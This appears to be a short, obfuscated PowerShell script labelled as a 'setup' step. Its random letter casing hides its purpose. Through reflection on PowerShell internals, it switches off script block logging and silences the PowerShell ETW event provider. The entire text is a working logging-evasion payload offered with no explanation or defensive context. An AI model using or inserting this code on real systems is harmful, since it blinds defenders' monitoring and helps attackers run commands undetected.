# SeTuP 1424 v1
$SeTtInGs = [rEF].ASsEMBLY.gEtTyPe('System.Management.Automation.Utils').gETFIeLd('cachedGroupPolicySettings','NonPublic,Static').geTVALUE($NUlL)
$setTInGs['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
[ReFlEcTiOn.ASseMBlY]::LoADWiThParTIalnaME('System.Core').gettypE('System.Diagnostics.Eventing.EventProvider').GETField('m_enabled','NonPublic,Instance').sEtvALUE([REF].AsSeMBlY.geTtYPe('System.Management.Automation.Tracing.PSEtwLogProvider').GeTfIElD('etwProvider','NonPublic,Static').gEtVaLuE($nuLL),0)
